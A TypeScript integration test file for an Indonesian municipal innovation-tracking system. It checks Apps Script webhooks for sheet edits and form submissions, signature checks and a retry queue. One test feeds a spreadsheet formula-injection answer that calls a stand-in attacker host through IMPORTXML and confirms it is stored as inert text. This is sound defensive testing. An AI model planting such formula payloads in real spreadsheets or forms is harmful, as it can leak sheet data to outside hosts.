// The payloads Code.gs builds and signs, posted over real HTTP to the real functions.
// Why Code.gs runs under shims: see runAppsScript.ts.
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { formSubmittedHandler } from "../../functions/formSubmitted.js";
import { sheetEditedHandler } from "../../functions/sheetEdited.js";
import { parseConfig } from "../../src/config.js";
import { innovationIdForResponse } from "../../src/forms/formSubmission.js";
import { createMailer, type Mailer } from "../../src/mail/transport.js";
import { stores } from "../../src/store/kinds.js";
import { startTestSmtpServer, type TestSmtpServer } from "../mail/smtpServer.js";
import { testDatabase } from "../support/firestore.js";
import { createUnit } from "../support/fixtures.js";
import { recordingSync, serveHttp, TEST_SECRET, type Served } from "../functions/support.js";
import { runAppsScript, type EditEventData, type FormResponseData } from "./runAppsScript.js";

const database = testDatabase();
const sync = recordingSync({ dinkes: ["1AbCdEfGhIjKlMnOpQrStUvWxYz_dinkes"] });
let smtp: TestSmtpServer;
let mailer: Mailer;
let edits: Served;
let forms: Served;
let brokenEdits: Served;

const edit: EditEventData = { spreadsheetId: "1AbCdEfGhIjKlMnOpQrStUvWxYz_dinkes", sheetName: "Inovasi", row: 5, column: 3, numRows: 1, numColumns: 1, user: "staf@probolinggokota.go.id" };

function settings(overrides: Record<string, string> = {}) {
  return { LABINOV_SECRET: TEST_SECRET, LABINOV_SHEET_EDITED_URL: edits.url, LABINOV_FORM_SUBMITTED_URL: forms.url, ...overrides };
}

beforeAll(async () => {
  smtp = await startTestSmtpServer();
  mailer = createMailer(parseConfig({ SMTP_URL: smtp.url }));
  edits = await serveHttp(sheetEditedHandler(() => ({ db: database.db, sync, webhookSecret: TEST_SECRET })));
  forms = await serveHttp(formSubmittedHandler(() => ({ db: database.db, sync, mailer, webhookSecret: TEST_SECRET })));
  const failingSync = { ...recordingSync({ dinkes: [edit.spreadsheetId] }), syncSpreadsheet: () => Promise.reject(new Error("Sheets API 503")) };
  brokenEdits = await serveHttp(sheetEditedHandler(() => ({ db: database.db, sync: failingSync, webhookSecret: TEST_SECRET })));
});
beforeEach(async () => {
  await database.clear();
  sync.calls.length = 0;
  smtp.received.length = 0;
  await createUnit(stores(database.db));
});
afterAll(async () => {
  await Promise.all([edits.stop(), forms.stop(), brokenEdits.stop()]);
  mailer.close?.();
  await smtp.stop();
  await database.db.terminate();
});

describe("Code.gs against the real functions", () => {
  it("an edit posts a signed sheetEdit the function accepts and syncs", async () => {
    const run = await runAppsScript(settings(), [{ fn: "labinovOnEdit", edit }]);
    expect(run.fetches.map((seen) => seen.status)).toEqual([200]);
    const sent = JSON.parse(run.fetches[0]!.body) as Record<string, unknown>;
    expect(sent).toMatchObject({ kind: "sheetEdit", spreadsheetId: edit.spreadsheetId, sheetName: "Inovasi", range: "C5", user: edit.user });
    expect(run.fetches[0]!.headers["x-labinov-signature"]).toMatch(/^[0-9a-f]{64}$/);
    expect(sync.calls).toEqual([`sync:${edit.spreadsheetId}`]);
  });

  const ranges: { name: string; at: Partial<EditEventData>; range: string }[] = [
    { name: "one cell", at: { row: 5, column: 3 }, range: "C5" },
    { name: "a block", at: { row: 2, column: 2, numRows: 8, numColumns: 3 }, range: "B2:D9" },
    { name: "a whole column (Apps Script would say C:C)", at: { row: 1, column: 3, numRows: 1000, numColumns: 1 }, range: "C1:C1000" },
    { name: "beyond column Z", at: { row: 7, column: 28, numRows: 1, numColumns: 26 }, range: "AB7:BA7" },
  ];
  it.each(ranges)("the range of $name is sent as $range and accepted", async ({ at, range }) => {
    const run = await runAppsScript(settings(), [{ fn: "labinovOnEdit", edit: { ...edit, ...at } }]);
    expect(run.fetches[0]!.status).toBe(200);
    expect((JSON.parse(run.fetches[0]!.body) as { range: string }).range).toBe(range);
  });

  it("a form submission becomes one innovation; formula-looking answers and non-ASCII text arrive as text", async () => {
    const form: FormResponseData = {
      formId: "1FAIpQLSf_formulir-usulan",
      responseId: "2_ABaOnudk3Lrm",
      timestamp: "2026-11-27T03:15:00.000Z",
      respondentEmail: "pengusul@gmail.com",
      items: [
        { title: "Nama inovasi", response: "=IMPORTXML(\"http://jahat.example\";\"//a\") — Layanan “Ceria”" },
        { title: "Unit kerja", response: "Dinas Kesehatan P2KB" },
        { title: "Jenis inovasi", response: "Digital" },
        { title: "Bentuk inovasi", response: "Inovasi pelayanan publik" },
        { title: "Tautan bukti dukung", response: ["https://probolinggokota.go.id/a", "https://probolinggokota.go.id/b"] },
      ],
    };
    const run = await runAppsScript(settings(), [{ fn: "labinovOnFormSubmit", form }]);
    expect(run.fetches.map((seen) => seen.status)).toEqual([200]);
    const record = await stores(database.db).innovations.require(innovationIdForResponse(form.formId, form.responseId));
    expect(record.name).toBe("=IMPORTXML(\"http://jahat.example\";\"//a\") — Layanan “Ceria”");
    expect(record.evidenceLinks).toEqual(["https://probolinggokota.go.id/a", "https://probolinggokota.go.id/b"]);
    expect(smtp.received).toHaveLength(2);
  });

  it("when the server fails, the edit is kept in Script Properties and the retry timer delivers it", async () => {
    const first = await runAppsScript(settings({ LABINOV_SHEET_EDITED_URL: brokenEdits.url }), [{ fn: "labinovOnEdit", edit }]);
    expect(first.fetches.map((seen) => seen.status)).toEqual([500]);
    const queued = Object.keys(first.properties).filter((key) => key.startsWith("LABINOV_ANTREAN_"));
    expect(queued).toHaveLength(1);

    const retry = await runAppsScript({ ...first.properties, LABINOV_SHEET_EDITED_URL: edits.url }, [{ fn: "labinovKirimUlangAntrean" }]);
    expect(retry.fetches.map((seen) => seen.status)).toEqual([200]);
    expect(Object.keys(retry.properties).filter((key) => key.startsWith("LABINOV_ANTREAN_"))).toEqual([]);
    expect(sync.calls).toEqual([`sync:${edit.spreadsheetId}`]);
  });

  it("a wrong secret is refused (401), logged, and not queued: a retry would not help", async () => {
    const run = await runAppsScript(settings({ LABINOV_SECRET: "kunci-yang-salah-tetapi-cukup-panjang-123456" }), [{ fn: "labinovOnEdit", edit }]);
    expect(run.fetches.map((seen) => seen.status)).toEqual([401]);
    expect(run.logs.some(([level, text]) => level === "error" && /ditolak server Labinov: 401/.test(text))).toBe(true);
    expect(Object.keys(run.properties).some((key) => key.startsWith("LABINOV_ANTREAN_"))).toBe(false);
    expect(sync.calls).toEqual([]);
  });

  it("with no secret set it sends nothing and says which setting is missing", async () => {
    const { LABINOV_SECRET: _omitted, ...withoutSecret } = settings();
    const run = await runAppsScript(withoutSecret, [{ fn: "labinovOnEdit", edit }]);
    expect(run.fetches).toEqual([]);
    expect(run.logs.some(([, text]) => text.includes("LABINOV_SECRET"))).toBe(true);
  });
});
